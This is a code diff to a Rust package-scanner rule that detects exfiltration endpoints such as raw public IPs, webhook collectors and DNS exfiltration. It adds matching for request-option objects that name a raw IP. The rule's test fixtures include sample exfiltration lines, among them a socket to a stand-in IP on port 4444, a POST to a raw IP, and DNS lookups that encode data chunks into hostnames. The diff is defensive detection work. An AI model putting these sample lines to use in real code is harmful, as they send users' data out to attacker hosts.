@@ -5,8 +5,8 @@ use crate::package::Package;
 use crate::rules::{Emitter, code_files, find_text, is_doc_path};
 
 crate::declare_rule! {
-    /// Code that addresses places stolen data goes: a raw public IP address as a URL or socket
-    /// target, request collectors (webhook.site-style, out-of-band testing domains), Discord
+    /// Code that addresses places stolen data goes: a raw public IP address as a URL, socket
+    /// target or request-options host (`{ hostname, path, method }`), request collectors (webhook.site-style, out-of-band testing domains), Discord
     /// and Slack incoming webhooks, Telegram bot API, paste sites and file drops, calendar/paste dead drops,
     /// tunnelling domains, and DNS lookups of names built at run time (DNS exfiltration).
     /// Hosts are judged by their kind, never by a list of known-bad names.
@@ -22,12 +22,14 @@ crate::declare_rule! {
            "const u = 'http://' + '203.0.113.9' + ':1224/uploads'",
            "const s = new net.Socket(); s.connect(4444, '198.51.100.7')",
            "https.get('https://pastebin.com/raw/abcd')",
+           "const c = n(687); const q = c.request({ hostname: '203.0.113.140', port: 443, path: '/w', method: 'POST' }); q.end(body)",
            "const dns = require('dns'); dns.lookup(`${chunk}.${i}.oast-cb.example.net`, () => {})", "const dns = require('dns'); dns.lookup(hex + '.collect.example.org', cb)"],
     pass: ["fetch('https://api.example.com/v2/items')",
            "// Allows request.get('https://1.2.3.4/').set('Host', 'example.com')\nconst u = opts.url",
            "const result = this.channel.requestBinarySync(method, payload)", "const local = 'http://127.0.0.1:8080'",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nconnect to http://203.0.113.10:8080",
-           "const v = '1.2.3.4' // version-ish string not used as an address", "const dns = require('dns'); dns.lookup(host, cb)"],
+           "const v = '1.2.3.4' // version-ish string not used as an address",
+           "const a = proxy({ hostname: '192.168.1.20', path: '/api', method: 'GET' })", "const b = serve({ hostname: '203.0.113.140', port: 8080 })", "const dns = require('dns'); dns.lookup(host, cb)"],
 }
 
 fn public_ipv4(s: &str) -> bool {
@@ -44,6 +46,9 @@ fn public_ipv4(s: &str) -> bool {
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
+    let request_opts = crate::regex!(
+        r#"\bhost(?:name)?\s*:\s*['"]\d{1,3}(?:\.\d{1,3}){3}['"]\s*,[^{}\n]{0,120}\b(?:path|method)\s*:"#
+    );
     let ip_url =
         crate::regex!(r"(?i)\b(?:https?|wss?|tcp|ftp)://(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?");
     let collectors = crate::regex!(
@@ -139,7 +144,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
                     .chain(
                         c.opts
                             .iter()
-                            .filter(|(k, _)| k == "host")
+                            .filter(|(k, _)| k == "host" || k == "hostname")
                             .map(|(_, v)| v.as_str()),
                     )
                     .find(|s| public_ipv4(s));
@@ -147,6 +152,21 @@ fn check(pkg: &Package, out: &mut Emitter) {
                     .then_some(())
                     .and(target)
                     .map(|t| (c.off, t.to_string()))
+            })
+        });
+        // Request options naming a raw IP (`{ hostname: '…', path, method }`), also when the
+        // client is reached through a bundler's module map (`n(687).request(…)`) that does not
+        // resolve to a module.
+        let ip = ip.or_else(|| {
+            if !crate::mentions!(
+                crate::rules::all_text(f),
+                ["host:", "hostname:", "host :", "hostname :"]
+            ) {
+                return None;
+            }
+            find_text(f, request_opts).into_iter().find_map(|(o, m)| {
+                let host = crate::regex!(r"\d{1,3}(?:\.\d{1,3}){3}").find(&m)?.as_str();
+                (public_ipv4(host) && !comment(o)).then(|| (o, host.to_string()))
             })
         });
         if let Some((off, m)) = ip {
